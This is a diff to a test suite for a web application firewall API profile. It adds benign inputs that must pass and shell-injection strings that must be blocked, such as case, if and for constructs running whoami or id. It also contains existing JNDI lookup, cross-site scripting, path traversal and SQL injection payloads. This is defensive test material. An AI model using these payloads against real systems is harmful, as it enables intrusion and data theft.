@@ -1622,6 +1622,14 @@ describe('waf API profile: session 10', () => {
       },
       // A widget script's modulo (`%86400`) is no percent-encoding: no decoded view, no invalid UTF-8 (920250).
       { config: 'var d = (s%86400)/3600; var h = (s%3600)/60; show(d, h);' },
+      // A pasted traceback: its first line is a syntax error to a shell, which runs nothing after it.
+      {
+        output:
+          'Traceback (most recent call last):\n  File "/sandbox/main.py", line 4, in <module>\n    print(1/0)\nZeroDivisionError: division by zero',
+      },
+      {
+        text: 'My grandma’s recipe says “a pinch of salt; drop in the eggs one at a time” — we used it for the fractions homework (¾ cup flour × 2 = 1½ cups).',
+      },
     ];
     for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
     const persisted = (variables: unknown): Init =>
@@ -1643,6 +1651,12 @@ describe('waf API profile: session 10', () => {
       { note: 'harmless ${id} then %24%7Bjndi:ldap://203.0.113.5/a%7D' },
       { widget: { html: '<marquee onstart="alert(1)">x</marquee>' } },
       { p: '..%25c0%25af..%25c0%25afetc/passwd' },
+      { output: 'Traceback (most recent call last):\nid; whoami' },
+      { output: 'Done "\nTraceback (most recent call last):\n"\nwhoami' },
+      { note: 'case x in (x) whoami\nesac' },
+      { note: 'if true\nthen whoami\nfi' },
+      { note: 'for x in a b\ndo id\ndone' },
+      { text: 'a pinch of salt\ny= whoami (x = 2)' },
     ];
     for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
     assert.ok((await run(api, persisted({ q: "x' union select password from users--" }))).error);
